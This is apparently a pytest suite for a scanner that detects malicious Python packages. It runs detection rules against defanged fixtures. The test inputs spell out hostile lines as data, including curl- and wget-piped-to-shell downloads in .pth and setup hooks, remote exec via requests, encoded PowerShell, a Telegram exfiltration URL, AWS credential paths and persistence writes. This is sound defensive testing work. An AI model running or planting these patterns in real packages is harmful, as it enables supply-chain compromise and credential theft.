"""Rule behaviour on small hand-written, defanged fixtures."""

from __future__ import annotations

import pytest
from code_fixtures import (
    BENIGN_PKG,
    BENIGN_WITH_TESTS,
    MISS_HATCH_HOOK,
    MISS_INTREE_BACKEND,
    MISS_SETUP_IMPORT,
)

from detector.code import scan_files
from detector.code.rules import catalogue


def rules_of(result, tier: str | None = None) -> set[str]:
    return {f.rule for f in result.findings if tier is None or f.tier == tier}


@pytest.mark.parametrize(
    ("files", "payload_file", "expected"),
    [
        (MISS_SETUP_IMPORT, "buildtools/helpers.py", {"decode-exec", "shell-download-exec"}),
        (MISS_HATCH_HOOK, "hatch_build.py", {"exfil-url", "exfiltration"}),
        (MISS_INTREE_BACKEND, "_custom_build/backend.py", {"decode-exec", "powershell-hidden"}),
    ],
    ids=["module-imported-by-setup", "hatch-build-hook", "in-tree-backend"],
)
def test_guarddog_misses_are_caught_at_install_time(files, payload_file, expected):
    result = scan_files(files, origin="fixture")
    assert result.flagged, result.to_dict()
    hits = {f.rule for f in result.findings if f.file == payload_file and f.tier == "install"}
    assert expected <= hits
    assert result.score > scan_files(BENIGN_PKG).score + 0.5


def test_payload_counts_less_when_not_reachable_at_install():
    """The same helper, not imported by setup.py, is an ordinary module (lower tier)."""
    unreachable = dict(MISS_SETUP_IMPORT)
    unreachable["setup.py"] = 'from setuptools import setup\nsetup(name="tidy-widgets")\n'
    reached = scan_files(MISS_SETUP_IMPORT)
    plain = scan_files(unreachable)
    assert {f.tier for f in plain.findings if f.file == "buildtools/helpers.py"} == {"other"}
    assert plain.rule_score < reached.rule_score


def test_test_file_rm_rf_is_down_weighted_not_skipped():
    result = scan_files(BENIGN_WITH_TESTS)
    assert not result.flagged
    destructive = [f for f in result.findings if f.rule == "destructive-command"]
    assert destructive and all(f.tier == "test" for f in destructive)


def test_code_in_tests_imported_by_setup_counts_as_install_time():
    """Hiding a payload under tests/ and importing it from setup.py does not evade."""
    files = dict(BENIGN_WITH_TESTS)
    files["tests/payload.py"] = MISS_SETUP_IMPORT["buildtools/helpers.py"]
    files["setup.py"] = "from tests.payload import prepare\nprepare()\n" + files["setup.py"]
    result = scan_files(files)
    assert result.flagged
    assert any(f.file == "tests/payload.py" and f.tier == "install" for f in result.findings)


def test_benign_package_scores_low():
    result = scan_files(BENIGN_PKG)
    assert not result.flagged
    assert result.findings == [] and result.rule_score == 0.0
    assert result.error is None


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        # aliased decoder imported by name (GuardDog's regex needs `base64.b64decode(`)
        ("from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))\n", "decode-exec"),
        ("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n", "decode-exec"),
        ("exec('tnirp'[::-1])\n", "decode-exec"),
        ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n", "decode-exec"),
        ("f = getattr(__builtins__, 'ex' + 'ec')\nf('1')\n", "getattr-obfuscation"),
        ("m = __import__('o' + 's')\n", "dynamic-import"),
        ("import os\nos.system('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA')\n",
         "powershell-hidden"),
        ("import requests\nexec(requests.get('http://192.0.2.1/x').text)\n", "remote-code-exec"),
        ("import winreg\nk = r'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'\n",
         "persistence"),
        ("open(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "persistence"),
        ("p = '~/.aws/credentials'\n", "credential-file"),
        ("u = 'https://api.telegram.org/bot000:defanged/sendMessage'\n", "exfil-url"),
        ("u = 'http://198.51.100.7:8080/c2'\n", "raw-ip-url"),
        ("import subprocess\nsubprocess.call(['pip', 'install', 'thing'])\n",
         "pip-install-at-runtime"),
        ("from setuptools.command.install import install\nclass I(install):\n    pass\n",
         "install-command-override"),
        ("import os\nk = os.getenv('AWS_SECRET_ACCESS_KEY')\n", "env-secrets"),
        ("from os import system as _run\n_run('echo hi')\n", "import-aliasing"),
        ("from sys import executable as e\nfrom os import system as s\n"
         "from tempfile import NamedTemporaryFile as T\nt = T(delete=False)\n"
         "s(f'start {e} {t.name}')\n", "temp-script-exec"),
        ("x = ['browser_cookie3', 'requests']\n", "stealer-dependency"),
    ],
)
def test_rule_fires_in_setup_py(source, rule):
    result = scan_files({"setup.py": "import os\n" + source})
    assert rule in rules_of(result), result.to_dict()
    hit = next(f for f in result.findings if f.rule == rule)
    assert hit.file == "setup.py" and hit.tier == "install" and hit.line and hit.evidence


def test_decoded_literal_is_rescanned():
    files = {"setup.py": MISS_INTREE_BACKEND["_custom_build/backend.py"]}
    result = scan_files(files)
    decoded = [f for f in result.findings if f.rule == "decoded-payload"]
    assert decoded and "shell-download-exec" in decoded[0].evidence


def test_pth_import_line_runs_at_interpreter_start():
    files = {
        "tidy-setup.pth": "import os; os.system('curl -s http://203.0.113.9/x | sh')\n",
        "tidy/__init__.py": "",
    }
    result = scan_files(files)
    assert {"pth-exec-line", "shell-download-exec"} <= rules_of(result, "install")
    assert result.flagged


def test_plain_pth_path_entries_are_fine():
    result = scan_files({"tidy.pth": "/opt/tidy/lib\n./vendored\n"})
    assert result.findings == [] and not result.flagged


def test_setup_cfg_cmdclass_target_is_install_time():
    files = {
        "setup.cfg": "[options]\ncmdclass =\n    install = tidy_build.hooks.Install\n",
        "setup.py": "from setuptools import setup\nsetup()\n",
        "tidy_build/hooks.py": "import os\nos.system('wget http://203.0.113.9/a -O- | sh')\n",
    }
    result = scan_files(files)
    hits = [f for f in result.findings if f.file == "tidy_build/hooks.py"]
    assert hits and all(f.tier == "install" for f in hits)


def test_unparsable_python2_file_still_gets_text_rules():
    source = "import os\nprint 'hi'\nos.system('curl http://203.0.113.9/x | sh')\n"
    result = scan_files({"setup.py": source})
    assert {"unparsable-python", "shell-download-exec"} <= rules_of(result)


def test_catalogue_is_well_formed():
    rules = catalogue()
    assert len(rules) >= 40
    assert all(r.description and r.weight >= 0 for r in rules.values())
    assert rules["decode-exec"].severity == "high"


def test_findings_are_ordered_most_serious_first():
    result = scan_files(MISS_SETUP_IMPORT)
    order = ["high", "medium", "low", "info"]
    ranks = [order.index(f.severity) for f in result.findings]
    assert ranks == sorted(ranks)
